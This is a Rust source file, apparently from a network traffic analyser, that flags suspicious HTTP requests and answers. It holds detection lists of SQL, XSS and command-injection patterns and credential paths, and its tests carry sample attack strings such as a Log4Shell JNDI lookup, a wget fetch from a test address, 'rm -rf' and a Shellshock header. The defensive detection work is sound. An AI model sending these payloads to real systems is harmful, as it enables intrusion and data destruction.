@@ -1,0 +1,501 @@
+//! What is remarkable about HTTP requests and answers, as status bits.
+//!
+//! Nothing here proves an attack: the bits say that a head looks like one. A cheap look at the target
+//! comes first, so that ordinary requests cost little and allocate nothing.
+
+use shared::model::flow::HttpInfo;
+use shared::model::status::{FlowStatus, StatusBits};
+
+use super::MAX_URL;
+
+/// Bits of a request: its target and what its headers said.
+pub(super) fn of_request(target: &[u8], http: &HttpInfo, agent: Option<&[u8]>, body: &[u8]) -> StatusBits {
+    let mut bits = of_target(target);
+    if let Some(agent) = agent {
+        bits |= of_agent(agent);
+    }
+    if &*http.method == "POST" && posts_password(body) {
+        bits |= FlowStatus::ClearTextCredentials.bit();
+    }
+    bits
+}
+
+/// Bits of an answer: what its headers said, and how its body begins.
+pub(super) fn of_answer(http: &HttpInfo, body: &[u8]) -> StatusBits {
+    let mut bits = 0;
+    let mut set = |status: FlowStatus, on: bool| bits |= if on { status.bit() } else { 0 };
+    set(FlowStatus::HttpObsoleteServer, is_obsolete(&http.server));
+    let kind = http.content_type.split(';').next().unwrap_or_default().trim();
+    let program = is_program(body);
+    let announced = PROGRAM_TYPES.iter().any(|known| kind.eq_ignore_ascii_case(known));
+    let named = http.status == 200 && PROGRAM_ENDINGS.iter().any(|ending| path_ends_with(&http.url, ending));
+    // A page that says why there is no such program is none.
+    let page = kind.get(..5).is_some_and(|head| head.eq_ignore_ascii_case("text/"));
+    set(FlowStatus::ExecutableTransfer, program || http.status == 200 && announced || named && !page);
+    let harmless = page || kind.get(..6).is_some_and(|head| head.eq_ignore_ascii_case("image/"));
+    set(FlowStatus::HttpSuspiciousContent, program && harmless);
+    set(FlowStatus::BinaryDataTransfer, program);
+    bits
+}
+
+/// Bits of a header's value, whatever its name.
+pub(super) fn of_value(value: &[u8]) -> StatusBits {
+    // Both begin with a character that ordinary values rarely have.
+    if !value.iter().any(|byte| matches!(byte, b'$' | b'(')) {
+        return 0;
+    }
+    let exploit = contains(value, b"${jndi:") || value.windows(4).any(|window| window == b"() {");
+    if exploit { FlowStatus::PossibleExploit.bit() | FlowStatus::HttpSuspiciousHeader.bit() } else { 0 }
+}
+
+/// Whether a header's name has characters that no token has (RFC 9110 §5.6.2).
+pub(super) fn is_odd_name(name: &[u8]) -> bool {
+    let token = |byte: &u8| byte.is_ascii_alphanumeric() || b"!#$%&'*+-.^_`|~".contains(byte);
+    name.is_empty() || !name.iter().all(token)
+}
+
+/// Content types of programs.
+const PROGRAM_TYPES: &[&str] = &[
+    "application/x-msdownload",
+    "application/x-msdos-program",
+    "application/x-dosexec",
+    "application/vnd.microsoft.portable-executable",
+    "application/x-msi",
+    "application/x-executable",
+    "application/x-elf",
+    "application/x-sharedlib",
+    "application/x-mach-binary",
+    "application/vnd.android.package-archive",
+    "application/x-ms-application",
+];
+
+/// Endings of programs' names.
+const PROGRAM_ENDINGS: &[&str] =
+    &[".exe", ".msi", ".dll", ".scr", ".apk", ".elf", ".com.exe", ".bat", ".ps1", ".vbs", ".hta", ".lnk"];
+
+/// Whether the path of `url` ends with `ending`.
+fn path_ends_with(url: &str, ending: &str) -> bool {
+    let path = url.split(['?', '#']).next().unwrap_or_default();
+    let tail = path.len().checked_sub(ending.len()).and_then(|at| path.get(at..));
+    tail.is_some_and(|tail| tail.eq_ignore_ascii_case(ending))
+}
+
+/// Whether `body` begins as a program of Windows, Unix or macOS does.
+fn is_program(body: &[u8]) -> bool {
+    let windows = || {
+        // "MZ", and where the rest of the header is, as far as it is seen.
+        let at = body.get(0x3c..0x40).and_then(|raw| <[u8; 4]>::try_from(raw).ok()).map(u32::from_le_bytes);
+        body.starts_with(b"MZ")
+            && at.is_some_and(|at| {
+                let there = body.get(at as usize..).and_then(|rest| rest.get(..4));
+                (0x40..0x1000).contains(&at) && there.is_none_or(|magic| magic == b"PE\0\0")
+            })
+    };
+    body.starts_with(b"\x7fELF")
+        || windows()
+        || [[0xcf, 0xfa, 0xed, 0xfe], [0xce, 0xfa, 0xed, 0xfe]].iter().any(|magic| body.starts_with(magic))
+}
+
+/// Beginnings of servers' names with the first version that is still maintained.
+const MAINTAINED: &[(&str, [u32; 2])] =
+    &[("nginx/", [1, 22]), ("Apache/", [2, 4]), ("Microsoft-IIS/", [8, 5]), ("lighttpd/", [1, 4])];
+
+/// Whether a `Server` header names a version that gets no corrections any more.
+fn is_obsolete(server: &str) -> bool {
+    if server.starts_with("Apache-Coyote/") {
+        // Tomcat up to 8.0.
+        return true;
+    }
+    MAINTAINED.iter().any(|(name, first)| {
+        let Some(version) = server.strip_prefix(name) else { return false };
+        let end = version.find(|c: char| !c.is_ascii_digit() && c != '.').unwrap_or(version.len());
+        let mut parts = version.get(..end).unwrap_or_default().split('.').map(str::parse::<u32>);
+        let (Some(Ok(major)), Some(Ok(minor))) = (parts.next(), parts.next()) else { return false };
+        [major, minor] < *first
+    })
+}
+
+/// Tools that look for weaknesses, as they call themselves.
+const SCANNERS: &[&[u8]] = &[
+    b"sqlmap",
+    b"nikto",
+    b"nmap",
+    b"masscan",
+    b"zgrab",
+    b"gobuster",
+    b"dirbuster",
+    b"wpscan",
+    b"nessus",
+    b"openvas",
+    b"acunetix",
+    b"netsparker",
+    b"w3af",
+    b"havij",
+    b"hydra",
+    b"feroxbuster",
+    b"nuclei",
+    b"wfuzz",
+    b"ffuf",
+    b"arachni",
+    b"jorgee",
+    b"zmeu",
+    b"morfeus",
+    b"fimap",
+    b"commix",
+    b"whatweb",
+    b"joomscan",
+    b"hello, world",
+];
+
+/// Words in the names of crawlers.
+const CRAWLERS: &[&[u8]] = &[b"bot", b"crawler", b"spider", b"slurp", b"archiver"];
+
+/// Longest user agent that browsers and libraries have.
+const LONGEST_AGENT: usize = 512;
+
+fn of_agent(agent: &[u8]) -> StatusBits {
+    let mut bits = 0;
+    let suspicious = agent.len() < 4
+        || agent.len() > LONGEST_AGENT
+        || agent.iter().any(|byte| matches!(byte, b'<' | b'{' | b'`') || !(b' '..=b'~').contains(byte))
+        || SCANNERS.iter().any(|tool| contains(agent, tool));
+    if suspicious {
+        bits |= FlowStatus::HttpSuspiciousUserAgent.bit();
+    }
+    // A word's end: "Googlebot/2.1", "bingbot)", not "Abbott".
+    let crawler = CRAWLERS.iter().any(|word| {
+        let found = agent.windows(word.len()).position(|window| window.eq_ignore_ascii_case(word));
+        found.is_some_and(|at| agent.get(at + word.len()).is_none_or(|next| !next.is_ascii_alphabetic()))
+    });
+    if crawler {
+        bits |= FlowStatus::HttpCrawler.bit();
+    }
+    bits
+}
+
+/// Names that login forms give to their secret.
+fn posts_password(body: &[u8]) -> bool {
+    [&b"password="[..], b"passwd=", b"passwort=", b"pwd=", b"&pass="].iter().any(|name| {
+        let at = body.windows(name.len()).position(|window| window.eq_ignore_ascii_case(name));
+        // Something must be said, and the word must be the whole name but for a prefix.
+        at.is_some_and(|at| body.get(at + name.len()).is_some_and(|next| !matches!(next, b'&' | b'\r')))
+    })
+}
+
+/// Paths that only scanners and malware ask for.
+const HUNTED: &[&[u8]] = &[
+    b"/.git/",
+    b"/.env",
+    b"/.aws/",
+    b"/.ssh/",
+    b"/.htpasswd",
+    b"/.svn/",
+    b"/boaform/",
+    b"/hnap1",
+    b"/gponform",
+    b"/shell?",
+    b"/cgi-bin/luci/;",
+    b"/vendor/phpunit/",
+    b"/_ignition/execute",
+    b"/wp-config.php",
+    b"/etc/shadow",
+    b"/proc/self/environ",
+    b"/setup.cgi?next_file",
+    b"/goform/",
+    b"/ctrlt/devicemanager",
+    b"/invoker/jmxinvokerservlet",
+    b"/solr/admin/cores?",
+    b"/actuator/gateway",
+    b"/phpunit/src/",
+    b"/remote/fgt_lang",
+];
+
+/// Targets that carry markup.
+const SCRIPTING: &[&[u8]] = &[
+    b"<script",
+    b"<img",
+    b"<svg",
+    b"<iframe",
+    b"<body",
+    b"<object",
+    b"<embed",
+    b"javascript:",
+    b"onerror=",
+    b"onload=",
+];
+
+/// Targets that carry SQL.
+const SQL: &[&[u8]] = &[
+    b"union select",
+    b"union all select",
+    b"' or '",
+    b"\" or \"",
+    b"' or 1=1",
+    b" or 1=1",
+    b"' and '",
+    b"1' and 1=",
+    b"information_schema",
+    b"waitfor delay",
+    b"xp_cmdshell",
+    b"benchmark(",
+    b"load_file(",
+    b"into outfile",
+    b"extractvalue(",
+    b"updatexml(",
+    b"; drop table",
+    b"';--",
+    b"' --",
+    b"pg_sleep(",
+    b"and sleep(",
+    b"or sleep(",
+];
+
+/// Targets that carry commands.
+const COMMANDS: &[&[u8]] = &[
+    b"cmd.exe",
+    b"/bin/sh",
+    b"/bin/bash",
+    b";wget ",
+    b"; wget ",
+    b";curl ",
+    b"; curl ",
+    b"|wget ",
+    b"|curl ",
+    b";cat /",
+    b"|cat /",
+    b"$(",
+    b"`",
+    b"php://input",
+    b"php://filter",
+    b"data://text/plain",
+    b"allow_url_include",
+    b"auto_prepend_file",
+    b"base64_decode(",
+    b"passthru(",
+    b"shell_exec(",
+    b"system(",
+    b"proc_open(",
+    b"invokefunction",
+    b"powershell",
+    b"getruntime(",
+    b"class.module.classloader",
+    b"@java.lang",
+    b"cd+/tmp",
+    b"cd /tmp",
+    b"chmod 777",
+    b"/dev/tcp/",
+];
+
+/// Targets of exploits known by name: Log4Shell, Shellshock, Spring4Shell.
+const EXPLOITS: &[&[u8]] = &[b"${jndi:", b"${${", b"() {", b"class.module.classloader", b"%{(#"];
+
+/// Bits of a request's target.
+fn of_target(target: &[u8]) -> StatusBits {
+    let mut room = [0; MAX_URL];
+    let telling = |byte: &u8| b"%<>'\"();|$`{\\ ".contains(byte);
+    let plain = !target.iter().any(telling);
+    let text = match plain {
+        // Nothing of the kinds below can be in it but a path, or a plus that is a blank.
+        true => lower(target, &mut room),
+        false => decoded(target, &mut room),
+    };
+    let has = |patterns: &[&[u8]]| patterns.iter().any(|pattern| find(text, pattern));
+    let mut bits = 0;
+    let mut set = |status: FlowStatus, on: bool| bits |= if on { status.bit() } else { 0 };
+    let climbs = find(text, b"../../") || find(text, b"..\\..\\") || find(text, b"/etc/passwd");
+    set(FlowStatus::HttpSuspiciousUrl, climbs || text.contains(&b'/') && has(HUNTED));
+    let blanks = plain && !target.contains(&b'+');
+    if blanks {
+        return bits;
+    }
+    set(FlowStatus::UrlSqlInjection, has(SQL));
+    if plain {
+        set(FlowStatus::UrlCommandInjection, find(text, b"cd /tmp"));
+        return bits;
+    }
+    set(FlowStatus::UrlXss, has(SCRIPTING));
+    set(FlowStatus::UrlCommandInjection, has(COMMANDS));
+    set(FlowStatus::PossibleExploit, has(EXPLOITS));
+    bits
+}
+
+/// `target` in lower case, a plus as the blank that it is in a query; as much as there is room for.
+fn lower<'a>(target: &[u8], room: &'a mut [u8; MAX_URL]) -> &'a [u8] {
+    let length = target.len().min(MAX_URL);
+    for (to, from) in room.iter_mut().zip(target) {
+        *to = if *from == b'+' { b' ' } else { from.to_ascii_lowercase() };
+    }
+    room.get(..length).unwrap_or_default()
+}
+
+/// The same with percent-encoding taken off, twice where it was put on twice.
+fn decoded<'a>(target: &[u8], room: &'a mut [u8; MAX_URL]) -> &'a [u8] {
+    let mut length = lower(target, room).len();
+    for _ in 0..2 {
+        let (mut from, mut to) = (0, 0);
+        while let Some(byte) = room.get(from).copied().filter(|_| from < length) {
+            let digit = |at: usize| {
+                room.get(at).filter(|_| at < length).and_then(|digit| (*digit as char).to_digit(16))
+            };
+            let (byte, used) = match (byte, digit(from + 1), digit(from + 2)) {
+                (b'%', Some(high), Some(low)) => (((high << 4 | low) as u8).to_ascii_lowercase(), 3),
+                _ => (byte, 1),
+            };
+            if let Some(place) = room.get_mut(to) {
+                *place = byte;
+            }
+            (from, to) = (from + used, to + 1);
+        }
+        length = to;
+    }
+    room.get(..length).unwrap_or_default()
+}
+
+fn find(text: &[u8], pattern: &[u8]) -> bool {
+    memchr::memmem::find(text, pattern).is_some()
+}
+
+/// Whether `word`, in lower case, is somewhere in `line`, whatever the case.
+fn contains(line: &[u8], word: &[u8]) -> bool {
+    line.windows(word.len()).any(|window| window.eq_ignore_ascii_case(word))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn bits(statuses: &[FlowStatus]) -> StatusBits {
+        statuses.iter().fold(0, |bits, status| bits | status.bit())
+    }
+
+    #[test]
+    fn ordinary_targets_are_ordinary() {
+        for target in [
+            "/",
+            "/search?q=select+a+chair",
+            "/search?q=drop+the+table",
+            "/a/b.html?x=1&y=%20z",
+            "/union/station",
+            "/O%27Reilly/books",
+            "/wiki/SQL_injection",
+            "/images/photo%20(1).jpg",
+            "/article;jsessionid=AB12",
+            "/?redirect=https%3A%2F%2Fexample.org%2Fa%3Fb%3Dc",
+            "/login?user=tom&next=%2Fhome",
+            "/a/../b",
+            "/scripts/jquery-3.6.0.min.js",
+            "/p?q=rock+%26+roll+or+jazz",
+            "/api/v1/items?filter=name%3D%22bob%22",
+            "/systems(1)/overview",
+            "/c++/reference",
+        ] {
+            assert_eq!(of_target(target.as_bytes()), 0, "{target}");
+        }
+    }
+
+    #[test]
+    fn targets_of_attacks_have_their_bits() {
+        use FlowStatus::{HttpSuspiciousUrl, PossibleExploit, UrlCommandInjection, UrlSqlInjection, UrlXss};
+        let cases: &[(&str, &[FlowStatus])] = &[
+            ("/?q=<script>alert(1)</script>", &[UrlXss]),
+            ("/?q=%3CScript%3Ealert(1)%3C/script%3E", &[UrlXss]),
+            ("/?q=%253Cimg%2520src=x%2520onerror=alert(1)%253E", &[UrlXss]),
+            ("/item?id=1%20UNION%20SELECT%20user,pass%20FROM%20users", &[UrlSqlInjection]),
+            ("/item?id=1+union+all+select+1,2,3", &[UrlSqlInjection]),
+            ("/login?u=admin'%20or%20'1'='1", &[UrlSqlInjection]),
+            ("/?x=${jndi:ldap://192.0.2.1/a}", &[PossibleExploit]),
+            ("/?cmd=;wget%20http://192.0.2.1/x", &[UrlCommandInjection]),
+            ("/?f=php://input", &[]),
+            ("/index.php?f=php%3A//input", &[UrlCommandInjection]),
+            ("/shell?cd+/tmp;rm+-rf+*", &[UrlCommandInjection, HttpSuspiciousUrl]),
+            ("/static/../../../../etc/passwd", &[HttpSuspiciousUrl]),
+            ("/%2e%2e/%2e%2e/%2e%2e/boot.ini", &[HttpSuspiciousUrl]),
+            ("/.git/config", &[HttpSuspiciousUrl]),
+            ("/.env", &[HttpSuspiciousUrl]),
+        ];
+        for (target, statuses) in cases {
+            assert_eq!(of_target(target.as_bytes()), bits(statuses), "{target}");
+        }
+    }
+
+    #[test]
+    fn agents_are_told_apart() {
+        use FlowStatus::{HttpCrawler, HttpSuspiciousUserAgent};
+        for agent in [
+            "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
+            "curl/8.5.0",
+            "Wget/1.21",
+            "Debian APT-HTTP/1.3 (2.6.1)",
+            "python-requests/2.31",
+            "Abbott-Client/1.0",
+            "Go-http-client/1.1",
+        ] {
+            assert_eq!(of_agent(agent.as_bytes()), 0, "{agent}");
+        }
+        for agent in
+            ["", "x", "sqlmap/1.7", "Mozilla/5.0 zgrab/0.x", "Nikto", "<script>", "() { :; }; /bin/id"]
+        {
+            assert_eq!(of_agent(agent.as_bytes()), HttpSuspiciousUserAgent.bit(), "{agent}");
+        }
+        for agent in ["Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "bingbot"] {
+            assert_eq!(of_agent(agent.as_bytes()), HttpCrawler.bit(), "{agent}");
+        }
+    }
+
+    #[test]
+    fn servers_grow_old() {
+        for old in
+            ["nginx/1.14.0 (Ubuntu)", "Apache/2.2.15 (CentOS)", "Microsoft-IIS/7.5", "Apache-Coyote/1.1"]
+        {
+            assert!(is_obsolete(old), "{old}");
+        }
+        for new in
+            ["nginx", "nginx/1.27.1", "Apache/2.4.62", "Apache", "Microsoft-IIS/10.0", "cloudflare", ""]
+        {
+            assert!(!is_obsolete(new), "{new}");
+        }
+    }
+
+    fn answer(content_type: &str, url: &str, body: &[u8]) -> StatusBits {
+        let http = HttpInfo {
+            content_type: content_type.into(),
+            url: url.into(),
+            status: 200,
+            ..HttpInfo::default()
+        };
+        of_answer(&http, body)
+    }
+
+    #[test]
+    fn programs_are_known_by_type_name_and_bytes() {
+        use FlowStatus::{BinaryDataTransfer, ExecutableTransfer, HttpSuspiciousContent};
+        let mut windows = vec![0; 0x80];
+        windows[..2].copy_from_slice(b"MZ");
+        windows[0x3c] = 0x40;
+        windows[0x40..0x44].copy_from_slice(b"PE\0\0");
+        assert_eq!(answer("application/x-msdownload", "/a", b""), ExecutableTransfer.bit());
+        assert_eq!(answer("application/octet-stream", "/setup.EXE?v=1", b""), ExecutableTransfer.bit());
+        let both = bits(&[ExecutableTransfer, BinaryDataTransfer]);
+        assert_eq!(answer("application/octet-stream", "/a", &windows), both);
+        assert_eq!(answer("application/octet-stream", "/a", b"\x7fELF\x02\x01\x01"), both);
+        assert_eq!(answer("image/png", "/logo.png", &windows), both | HttpSuspiciousContent.bit());
+        assert_eq!(answer("text/html", "/missing.exe", b"<html>"), 0, "a page about a program");
+        windows[0x40] = b'x';
+        assert_eq!(answer("application/octet-stream", "/a", &windows), 0, "two letters are no program");
+        assert_eq!(answer("text/plain", "/MZ", b"MZ is a magic"), 0);
+    }
+
+    #[test]
+    fn secrets_in_forms_and_exploits_in_headers_are_seen() {
+        let post = HttpInfo { method: "POST".into(), ..HttpInfo::default() };
+        let form = of_request(b"/login", &post, None, b"user=tom&Password=secret");
+        assert_eq!(form, FlowStatus::ClearTextCredentials.bit());
+        assert_eq!(of_request(b"/login", &post, None, b"user=tom&password=&x=1"), 0);
+        assert_eq!(of_request(b"/login", &post, None, b"{\"a\":1}"), 0);
+        let exploit = bits(&[FlowStatus::PossibleExploit, FlowStatus::HttpSuspiciousHeader]);
+        assert_eq!(of_value(b"() { :;}; echo"), exploit);
+        assert_eq!(of_value(b"a ${JNDI:ldap://x}"), exploit);
+        assert_eq!(of_value(b"text/html (compatible; $5)"), 0);
+        assert!(is_odd_name(b"Ho st") && is_odd_name(b"") && !is_odd_name(b"X-Forwarded-For"));
+    }
+}
